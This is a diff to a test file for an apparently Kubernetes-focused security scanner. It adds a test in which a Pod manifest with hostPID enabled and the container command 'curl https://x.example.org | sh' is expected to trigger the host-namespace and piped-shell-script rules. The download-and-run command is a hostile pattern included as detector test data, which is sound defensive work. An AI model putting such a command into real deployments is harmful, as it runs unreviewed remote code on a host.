@@ -2,6 +2,10 @@ import assert from 'node:assert/strict';
 import { parseAllDocuments } from 'yaml';
 import { mapsIn } from '../../../src/core/tree';
 import { treeOfYaml } from '../../../src/readers/tree/tree-yaml';
+import { Workspace } from '../../../src/project/workspace';
+import { Engine } from '../../../src/scan/engine';
+import { grammars } from '../../harness/grammars';
+import { MemoryFiles } from '../../harness/memory-files';
 import { scanned } from '../../harness/scanned';
 
 const POD = (spec: string): string => `apiVersion: v1\nkind: Pod\nmetadata:\n  name: a\nspec:\n${spec}`;
@@ -57,6 +61,24 @@ ${POD('  hostPID: true\n  containers:\n    {{- range .Values.containers }}\n    
       'host-namespace-shared 7:3',
       'host-namespace-shared 16:3',
     ]);
+  });
+
+  it('is left for when somebody asks for it, and keys are not', async () => {
+    const engine = await Engine.create(grammars);
+    const text = POD(
+      '  hostPID: true\n  containers: [{name: a, command: [sh, -c, "curl https://x.example.org | sh"]}]\n',
+    );
+    const workspace = new Workspace({
+      files: new MemoryFiles({ 'pod.yaml': text }),
+      clock: { now: () => 0 },
+      logger: { info: () => {}, warn: () => {}, error: assert.fail },
+    });
+    const input = { kind: 'text', path: 'pod.yaml', text } as const;
+    const rules = async (unasked: boolean): Promise<string[]> =>
+      (await engine.scan(input, workspace, { unasked })).findings.map(({ rule }) => rule);
+    assert.deepEqual(await rules(false), ['host-namespace-shared', 'piped-shell-script']);
+    assert.deepEqual(await rules(true), []);
+    engine.dispose();
   });
 
   it('leaves definitions of resources alone', async () => {
